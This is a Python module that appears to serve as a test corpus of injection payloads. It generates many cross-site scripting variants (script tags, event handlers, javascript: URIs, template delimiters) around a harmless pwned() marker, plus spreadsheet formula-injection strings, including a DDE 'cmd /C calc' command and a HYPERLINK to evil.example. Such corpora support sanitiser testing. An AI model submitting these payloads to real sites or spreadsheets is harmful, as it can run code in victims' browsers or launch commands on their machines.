"""What strangers write who want to run something in the browser of whoever looks, or in their spreadsheet."""

from html import escape

_CALLS = ("pwned()", "pwned`1`", "top.pwned()", "eval('pwned()')", "import('data:text/javascript,pwned()')")
_SHAPES = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<scr<script>ipt>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</pre><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    '"><script>{}</script>', "'><script>{}</script>", "<img src=x onerror={}>", "<img/src=x/onerror={}>",
    '" onmouseover="{}', "' autofocus onfocus='{}", '" autofocus onfocus={} x="', "<svg onload={}>",
    "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>", '<iframe src="javascript:{}">', '<iframe srcdoc="<script>parent.{}</script>">',
    '<a href="javascript:{}">x</a>', "javascript:{}", "JaVaScRiPt:{}", "data:text/html,<script>{}</script>",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<marquee onstart={}>",
    '<object data="javascript:{}">', '<embed src="javascript:{}">', '<form action="javascript:{}"><button>x',
    "<math><mtext></p><style><!--</style><img src=x onerror={}>", "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "<%= {} %>",
    "<link rel=stylesheet href=x onerror={}>", '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="javascript:{}//">', "<style>@import 'x'</style><img src=x onerror={}>",
)  # fmt: skip
SCRIPTS = tuple(shape.format(call) for shape in _SHAPES for call in _CALLS) + tuple(
    escape(shape.format("pwned()")) for shape in _SHAPES
)
FORMULAS = tuple(
    sign + body
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
    for body in (
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://evil.example","x")',
        "SUM(1+1)*cmd",
        "1+1",
        "A1",
        "IMPORTXML(x)",
    )
)
ALL = tuple(dict.fromkeys(SCRIPTS + FORMULAS))
